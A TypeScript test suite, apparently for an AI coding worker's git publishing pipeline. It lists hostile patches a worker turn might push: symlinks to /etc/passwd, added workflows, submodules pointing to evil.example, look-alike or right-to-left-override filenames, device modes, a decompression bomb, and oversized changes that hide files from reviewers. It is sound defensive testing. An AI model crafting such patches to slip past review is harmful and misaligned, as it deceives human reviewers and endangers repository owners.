import { symlink, truncate, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { deflateSync } from 'node:zlib';
import type { CommitOrder, PushEnd } from '@codex-worker/core';
import type { Attack, Change } from '../../attack.ts';
import type { Product } from '../../product.ts';

const threat = 'hostile-patch';
const git = 'packages/git/src/';
const branch = 'codex/issue-12/x';
const base = 'main';

/** A repository on this machine. */
interface Demo extends AsyncDisposable {
  remote(name: string): { readonly folder: string };
  git(...args: readonly string[]): Promise<string>;
}
interface Modules {
  demoRemote(): Promise<Demo>;
  writeFiles(folder: string, files: Readonly<Record<string, string>>): Promise<void>;
  workingTree(remote: object): {
    checkOut(branch: string): Promise<string>;
    changesSince(base: string): Promise<string>;
  };
  publisher(remote: object): { push(order: CommitOrder): Promise<PushEnd> };
}

async function modulesOf(product: Product): Promise<Modules> {
  const [demo, tree, publisher] = await Promise.all(
    ['demo-remote.ts', 'working-tree.ts', 'publisher.ts'].map((file) => product.load<Modules>(`${git}${file}`)),
  );
  return { ...demo, ...tree, ...publisher } as Modules;
}

interface Hostile {
  readonly files?: Readonly<Record<string, string>>;
  readonly links?: Readonly<Record<string, string>>;
  /** Changes the patch that git makes of them. */
  readonly patch?: (patch: string) => string;
  readonly protect?: string;
}

/** Publishes a change that a turn made, and asks the repository what came of it. */
const publishes =
  ({ files = {}, links = {}, patch: forge = (patch) => patch, protect = '' }: Hostile, won: Won) =>
  async (product: Product) => {
    const { demoRemote, writeFiles, workingTree, publisher } = await modulesOf(product);
    await using demo = await demoRemote();
    const turn = demo.remote('turn');
    const sha = await workingTree(turn).checkOut(base);
    await writeFiles(turn.folder, files);
    for (const [link, target] of Object.entries(links)) await symlink(target, path.join(turn.folder, link));
    const { parseProtectedPaths } = await product.core();
    const order = { base: sha, requests: [], branch, startsFrom: base, message: 'Add up' };
    const patch = forge(await workingTree(turn).changesSince(sha));
    const isProtected = parseProtectedPaths(protect);
    const end = await publisher(demo.remote('publish')).push({ ...order, patch, isProtected });
    return await won(demo, end);
  };

type Won = (demo: Demo, end: PushEnd) => Promise<boolean> | boolean;

/** Whether a path is in the commit that was pushed. */
const lands =
  (file: string): Won =>
  async (demo, { kind }) =>
    kind === 'pushed' && (await demo.git('ls-tree', '-r', '-z', '--name-only', branch)).split('\0').includes(file);

const judge = `${git}left-out.ts`;
const without = (file: string, find: string, replace: string): readonly Change[] => [{ file, find, replace }];
const fine = { 'fine.txt': 'fine\n' };

const sections = (count: number): string =>
  Array.from(
    { length: count },
    (_, at) => `diff --git a/f${at} b/f${at}\nnew file mode 100644\n--- /dev/null\n+++ b/f${at}\n@@ -0,0 +1 @@\n+x\n`,
  ).join('');

const BASE85 = '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`{|}~';

/** A line of a binary patch as git writes it. */
function encodeLine(bytes: Buffer): string {
  const letter = String.fromCharCode(bytes.length <= 26 ? 64 + bytes.length : 96 + bytes.length - 26);
  const padded = Buffer.concat([bytes, Buffer.alloc((4 - (bytes.length % 4)) % 4)]);
  const groups = Array.from({ length: padded.length / 4 }, (_, index) => {
    const value = padded.readUInt32BE(index * 4);
    return [4, 3, 2, 1, 0].map((power) => BASE85[Math.floor(value / 85 ** power) % 85]).join('');
  });
  return `${letter}${groups.join('')}`;
}

/** Files of zeros: each is a few kilobytes in the patch, and sixty megabytes outside of it. */
function bombs(count: number): string {
  const size = 60 * 1024 * 1024;
  const packed = deflateSync(Buffer.alloc(size)).toString('latin1');
  const lines = (packed.match(/.{1,52}/gs) ?? []).map((line) => encodeLine(Buffer.from(line, 'latin1')));
  const data = `GIT binary patch\nliteral ${size}\n${lines.join('\n')}\n\nliteral 0\nHcmV?d00001\n\n`;
  const hashes = `${'0'.repeat(40)}..${'1'.repeat(40)}`;
  return Array.from(
    { length: count },
    (_, at) => `diff --git a/b${at} b/b${at}\nnew file mode 100644\nindex ${hashes}\n${data}`,
  ).join('');
}

/** Whether a turn ends without an answer because of a file that it left in the workspace. */
async function breaksTheRun(product: Product): Promise<boolean> {
  const { demoRemote, workingTree } = await modulesOf(product);
  await using demo = await demoRemote();
  const turn = demo.remote('turn');
  const sha = await workingTree(turn).checkOut(base);
  await writeFile(path.join(turn.folder, 'zeros'), '');
  await truncate(path.join(turn.folder, 'zeros'), 300 * 1024 * 1024);
  const { withholdSecrets, redactor } = await product.core();
  try {
    withholdSecrets((await workingTree(turn).changesSince(sha)) ?? '', redactor(['sk-own-0123456789abcdef']));
    return false;
  } catch {
    return true;
  }
}

export const attacks: readonly Attack[] = [
  {
    threat,
    name: 'a change adds a link to a file of the machine',
    wins: 'files of whoever checks the branch out, in the next patch or build',
    without: without(judge, "(leavesTree(path, target) ? 'link' : undefined)", 'undefined'),
    run: publishes({ files: fine, links: { secrets: '/etc/passwd' } }, lands('secrets')),
  },
  {
    threat,
    name: 'a change adds two links, each within the tree, that lead out of it together',
    wins: 'what a link out of the tree wins',
    without: without(`${git}forbidden-path.ts`, ".includes('..') &&", '.includes("never") &&'),
    run: publishes(
      { files: { ...fine, 'p/q/x.txt': 'x\n' }, links: { 'p/q/up': '../..', secrets: 'p/q/up/../../etc' } },
      lands('secrets'),
    ),
  },
  {
    threat,
    name: 'a change adds a link out of the tree whose name has bytes that are no text',
    wins: 'what a link out of the tree wins',
    without: without(`${git}put-back-entries.ts`, 'bytes, Buffer.of(0)', 'Buffer.from(`${bytes}\\0`)'),
    run: publishes(
      {
        files: fine,
        links: { secrets: '/etc/passwd' },
        patch: (patch) => patch.replace(/([ab])\/secrets/g, '"$1/\\377"'),
      },
      lands('\ufffd'),
    ),
  },
  {
    threat,
    name: 'a change adds a workflow',
    wins: 'a job with a token that the change chooses the permissions of',
    without: without(judge, "if (isWorkflowPath(path)) return 'workflow';", ''),
    run: publishes({ files: { ...fine, '.github/workflows/x.yml': 'on: push\n' } }, lands('.github/workflows/x.yml')),
  },
  {
    threat,
    name: 'a change adds a submodule',
    wins: 'code that nobody sees in the pull request, in every recursive checkout',
    without: without(judge, 'before.mode === SUBMODULE || after.mode === SUBMODULE || ', ''),
    run: publishes(
      {
        files: fine,
        patch: (patch) =>
          `${patch}diff --git a/vendor b/vendor\nnew file mode 160000\nindex ${'0'.repeat(40)}..${'1'.repeat(40)}\n--- /dev/null\n+++ b/vendor\n@@ -0,0 +1 @@\n+Subproject commit ${'1'.repeat(40)}\n`,
      },
      lands('vendor'),
    ),
  },
  {
    threat,
    name: 'a change makes a submodule come from elsewhere',
    wins: 'code that nobody sees in the pull request, in every recursive checkout',
    without: without(judge, ' || isSubmoduleList(path)', ''),
    run: publishes(
      { files: { ...fine, '.gitmodules': '[submodule "x"]\n\turl = https://evil.example\n' } },
      lands('.gitmodules'),
    ),
  },
  {
    threat,
    name: 'a change of a protected folder names it in other letters',
    wins: 'a file that is the protected one, wherever letters have no case',
    without: without('packages/core/src/proposal/protected-paths.ts', 'nocase: true', 'nocase: false'),
    run: publishes({ files: { ...fine, 'Infra/.env': 'x\n' }, protect: 'infra/**' }, lands('Infra/.env')),
  },
  {
    threat,
    name: 'a change of a protected file is hidden among others',
    wins: 'what the repository has put out of reach of the worker',
    without: without(judge, "if (isProtected?.(path)) return 'protected';", ''),
    run: publishes({ files: { ...fine, 'infra/deep/main.tf': 'x\n' }, protect: 'infra' }, lands('infra/deep/main.tf')),
  },
  {
    threat,
    name: 'a new file has the name of another, in other letters',
    wins: 'the file that is built on another system is not the one that was reviewed',
    without: without(judge, "(colliding.has(path) ? 'name' : undefined)", 'undefined'),
    run: publishes({ files: { ...fine, 'readme.md': 'x\n' } }, lands('readme.md')),
  },
  {
    threat,
    name: 'a new file is in a folder with the name of another, in a letter that has the same capital',
    wins: 'the file that is built on another system is not the one that was reviewed',
    without: without(`${git}unfit-name.ts`, '.toUpperCase()', ''),
    run: publishes({ files: { ...fine, '\u017frc/sum.js': 'x\n' } }, lands('\u017frc/sum.js')),
  },
  {
    threat,
    name: 'the name of a new file is turned around, so that it seems to end otherwise',
    wins: 'a program that a reviewer takes for a text',
    without: without(`${git}unfit-name.ts`, 'if (UNSEEN.test(file)) return true;', ''),
    run: publishes({ files: { ...fine, 'notes\u202etxt.sh': 'x\n' } }, lands('notes\u202etxt.sh')),
  },
  {
    threat,
    name: 'a patch makes a device',
    wins: 'whatever a tool makes of it that reads modes less strictly than git',
    without: without(`${git}patch-limits.ts`, '!FILE_MODES.includes(digits)', '!digits'),
    run: publishes(
      { files: fine, patch: (patch) => patch.replace('new file mode 100644', 'new file mode 060000') },
      lands('fine.txt'),
    ),
  },
  {
    threat,
    name: 'a patch of less than a megabyte unpacks to as much as it likes',
    wins: "the memory of the publish job's machine, and an answer that is never published",
    without: without(`${git}patch-limits.ts`, 'if (total <= LARGEST_UNPACKED) return undefined;', 'return undefined;'),
    run: publishes({ patch: () => bombs(5) }, (_, { kind }) => kind !== 'refused'),
  },
  {
    threat,
    name: 'a turn leaves a file that is too large to be looked at',
    wins: 'the answers of the run, for which somebody has paid, and which nobody gets',
    without: without(`${git}changes.ts`, 'for (const file of await leaveTooLarge(git, base, index)) leave(file);', ''),
    run: breaksTheRun,
  },
  {
    threat,
    name: 'a change has more files than a pull request shows',
    wins: 'a file that no reviewer is shown',
    without: without(
      `${git}patch-limits.ts`,
      'if (files <= MOST_FILES) return undefined;',
      'if (files) return undefined;',
    ),
    run: publishes({ patch: () => sections(3001) }, lands('f3000')),
  },
  {
    threat,
    name: 'a patch copies a file of the repository many times by name',
    wins: 'a repository of gigabytes, out of a short patch',
    without: without(
      `${git}patch-limits.ts`,
      '/(?<![^\\n])(?:copy|rename|similarity|dissimilarity) /.test(patch)',
      'patch === ""',
    ),
    run: publishes(
      {
        patch: () =>
          [1, 2, 3]
            .map(
              (at) => `diff --git a/README.md b/c${at}\nsimilarity index 100%\ncopy from README.md\ncopy to c${at}\n`,
            )
            .join(''),
      },
      lands('c3'),
    ),
  },
];
